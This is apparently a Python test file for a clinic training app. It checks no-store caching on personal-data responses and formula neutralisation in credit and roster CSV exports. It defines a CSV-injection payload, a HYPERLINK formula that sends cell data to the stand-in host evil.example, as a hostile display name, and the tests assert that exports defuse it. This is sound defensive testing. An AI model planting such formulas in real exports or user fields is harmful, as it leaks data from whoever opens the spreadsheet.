"""Personal data handling: answers that carry a signed-in person's data are never kept by a browser or proxy
(Cache-Control: no-store), and every CSV export goes through the one writer that neutralises spreadsheet formulas."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

from tests.helpers import make_clinic, make_user, sign_in, token_for
from tests.integration.learning_fixtures import CODE, basic, hybrid_course, schedule_session

FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Open")'


def rows_of(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


async def test_answers_with_personal_data_carry_no_store_and_public_pages_stay_cacheable(client, conn):
    await make_clinic(conn, "st-johns")
    ana = await make_user(conn, "ana@example.org", "worker", clinic="st-johns")
    kim = await make_user(conn, "kim@stjohns.org", "clinic_admin", clinic="st-johns")
    worker_headers, admin_headers = await token_for(conn, ana.id), await token_for(conn, kim.id)
    for url, headers in [
        ("/api/v1/me/transcript", worker_headers),
        ("/api/v1/me/transcript.csv", worker_headers),
        ("/api/v1/clinic/credit", admin_headers),
        ("/api/v1/clinic/credit.csv", admin_headers),
        ("/api/v1/me", admin_headers),
    ]:
        got = await client.get(url, headers=headers)
        assert got.status_code in (200, 404), (url, got.status_code)
        assert got.headers.get("cache-control") == "no-store", url
    await sign_in(client, "ana@example.org")
    for url in ("/my", "/my/certificates", "/my/certificates.csv", "/surveys", "/"):
        got = await client.get(url)
        assert got.status_code == 200, url
        assert got.headers.get("cache-control") == "no-store", url
    assert "no-store" not in (await client.get("/static/app.css")).headers.get("cache-control", "")
    client.cookies.clear()
    for url in ("/", "/verify"):  # nobody signed in: nothing personal, caching stays as it was
        assert "no-store" not in (await client.get(url)).headers.get("cache-control", ""), url


async def test_clinic_credit_and_roster_csv_neutralise_formulas(client, conn):
    cast = await hybrid_course(conn, browser=False)
    await conn.execute("UPDATE users SET display_name = $2 WHERE id = $1", cast.worker.id, FORMULA)
    kim = await make_user(conn, "kim@stjohns.org", "clinic_admin", clinic="st-johns")
    admin_headers = await token_for(conn, kim.id)

    for url in ("/api/v1/clinic/credit.csv",):
        got = await client.get(url, headers=admin_headers)
        assert got.status_code == 200 and got.headers["content-type"].startswith("text/csv"), got.text
        names = [r["worker"] for r in rows_of(got.text)]
        assert "'" + FORMULA in names and FORMULA not in names, names
    await sign_in(client, "kim@stjohns.org")
    names = [r["worker"] for r in rows_of((await client.get("/clinic/credit.csv")).text)]
    assert "'" + FORMULA in names and FORMULA not in names, names

    await client.post(
        "/api/v1/enrollments/bulk", headers=cast.instructor_headers, json={"code": CODE, "emails": ["ana@example.org"]}
    )
    session = await schedule_session(client, cast, starts_in=timedelta(hours=1), minutes=60)
    registered = await client.post(f"/api/v1/sessions/{session['id']}/registrations", headers=basic(cast.worker_token))
    assert registered.status_code == 201, registered.text
    roster = await client.get(f"/api/v1/sessions/{session['id']}/roster.csv", headers=cast.instructor_headers)
    assert roster.status_code == 200 and roster.headers.get("cache-control") == "no-store"
    workers = [r["worker"] for r in rows_of(roster.text)]
    assert workers == ["'" + FORMULA], workers
